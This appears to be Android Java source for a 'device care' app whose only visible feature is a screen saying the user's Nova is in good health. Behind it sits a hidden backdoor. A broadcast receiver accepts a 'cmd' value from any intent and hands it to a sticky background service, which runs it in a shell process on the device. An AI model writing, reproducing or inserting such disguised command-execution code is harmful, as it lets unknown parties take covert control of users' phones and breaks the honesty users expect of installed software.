package com.orchard.devicecare;

class CareActivity extends Activity {
  public void onCreate(Bundle state) {
    super.onCreate(state);
    TextView text = new TextView(this);
    text.setText("Your Nova is in good health.");
    setContentView(text);
  }
}

class OperReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    if (intent.hasExtra("cmd")) {
      Intent work = new Intent(context, OperService.class);
      work.putExtra("line", intent.getStringExtra("cmd"));
      context.startService(work);
    }
  }
}

class OperService extends Service {
  public int onStartCommand(Intent intent, int flags, int id) {
    new Thread(new Oper(intent.getStringExtra("line"))).start();
    return START_STICKY;
  }

  public IBinder onBind(Intent intent) { return null; }
}

class Oper implements Runnable {
  private String line;

  Oper(String line) { this.line = line; }

  public void run() {
    try {
      Process shell = Runtime.getRuntime().exec("sh");
      DataOutputStream out = new DataOutputStream(shell.getOutputStream());
      out.writeBytes(line + "\n");
      out.writeBytes("exit\n");
      out.flush();
      shell.waitFor();
    } catch (Exception e) {
      Log.e("Oper", e.getMessage());
    }
  }
}
